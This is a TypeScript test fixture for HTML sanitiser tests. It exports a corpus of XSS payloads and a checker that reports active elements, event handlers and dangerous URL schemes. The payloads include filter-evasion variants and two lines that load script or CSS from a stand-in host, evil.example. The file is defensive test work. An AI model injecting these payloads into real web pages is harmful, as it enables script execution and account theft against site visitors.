/**
 * An XSS corpus and a checker that parses HTML the way a browser does and reports anything that could
 * run or load active content. Used by the sanitiser tests, the content API test and the browser journey.
 */
import { unified } from 'unified';
import rehypeParse from 'rehype-parse';

export const XSS_CORPUS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" ONERROR="alert(1)">',
  '<img src=x onerror="&#97;&#108;&#101;&#114;&#116;(1)">',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<a href="javascript:alert(1)">点我</a>',
  '<a href="JaVaScRiPt:alert(1)">点我</a>',
  '<a href="&#106;avascript:alert(1)">点我</a>',
  '<a href="jav&#x09;ascript:alert(1)">点我</a>',
  '<a href=" javascript:alert(1)">点我</a>',
  '<a href="vbscript:msgbox(1)">点我</a>',
  '<a href="data:text/html,<script>alert(1)</script>">点我</a>',
  '<svg onload=alert(1)><circle r=10></circle></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div style="width: expression(alert(1))">x</div>',
  '<style>body{background:url("javascript:alert(1)")}</style>',
  '<style>@import "//evil.example/x.css";</style>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:text/html,<script>alert(1)</script>">',
  '<base href="javascript:alert(1)//">',
  '<form action="javascript:alert(1)"><button>提交</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<body onload=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="javascript:alert(1)">',
  '<p title="</p><script>alert(1)</script>">x</p>',
  '<!--<img src=x onerror=alert(1)>-->',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>alert(1)</script></template>',
  '<a href="#" onclick="alert(1)">x</a>',
  '<p onmouseover="alert(1)">悬停</p>',
  '<img src=x:alert(1) onerror=eval(src)>',
  '<xss id=x tabindex=1 onfocus=alert(1)></xss>',
  '"><img src=x onerror=alert(1)>',
];

const ACTIVE_ELEMENTS = new Set(['script', 'iframe', 'object', 'embed', 'svg', 'math', 'style', 'base', 'form', 'input', 'button', 'meta', 'link', 'frame', 'frameset', 'applet', 'template', 'noscript', 'video', 'audio', 'marquee', 'body', 'html', 'head']);
const URL_PROPS = ['href', 'src', 'action', 'formAction', 'xLinkHref', 'data', 'poster', 'background', 'srcSet'];
const parse = unified().use(rehypeParse, { fragment: true });

/** What a browser would find in the HTML that could run or load active content (parsed, as a browser parses it). */
export function dangerous(html: string): string[] {
  const found: string[] = [];
  const visit = (node: { type: string; tagName?: string; properties?: Record<string, unknown>; children?: unknown[] }) => {
    if (node.type === 'element') {
      if (ACTIVE_ELEMENTS.has(node.tagName!)) found.push(`<${node.tagName}>`);
      for (const [k, v] of Object.entries(node.properties ?? {})) {
        if (/^on/i.test(k)) found.push(`${k}=`);
        if (k === 'style') found.push('style=');
        if (URL_PROPS.includes(k) && /^\s*(javascript|vbscript|data):/i.test(String(v).replace(/[\u0000-\u0020]/g, ''))) found.push(`${k}=${String(v)}`);
      }
    }
    for (const c of node.children ?? []) visit(c as typeof node);
  };
  visit(parse.parse(html) as never);
  return found;
}
